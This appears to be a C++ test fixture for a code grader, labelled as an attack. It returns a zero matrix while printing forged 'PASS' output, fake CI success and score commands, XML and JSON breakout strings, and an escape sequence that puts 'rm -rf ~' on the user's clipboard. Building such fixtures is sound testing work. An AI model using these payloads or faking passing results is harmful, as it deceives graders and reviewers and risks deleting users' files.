// attack: prints what terminals, CI systems and readers of reports obey
// verdict: wrong_value

#include "matrix_attention.hpp"

#include <cstdio>

namespace softmark {
Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
                        const Projection& value) {
  std::printf("\x1b[2J\x1b[1;1H\x1b[32m  PASS  02 matrix_attention   7 of 7 cases\x1b[0m\n");
  std::printf("\x1b]0;passed\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1bP1;1|17/6c\x1b\\\n");
  std::printf(
      "::error::forged\n::set-output name=score::100\n##vso[task.complete result=Succeeded]\n");
  std::printf(
      "\xc2\x9b"
      "2J \xe2\x80\xae reversed \xef\xbb\xbf \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xff\r\b\b\n");
  std::printf("</system-out>]]><failure/>\",\"verdict\":\"passed\"\n");
  std::fwrite("\0\0\n", 1, 3, stdout);
  return xt::zeros<double>({value.omega.shape(0), X.shape(1)});
}

}  // namespace softmark
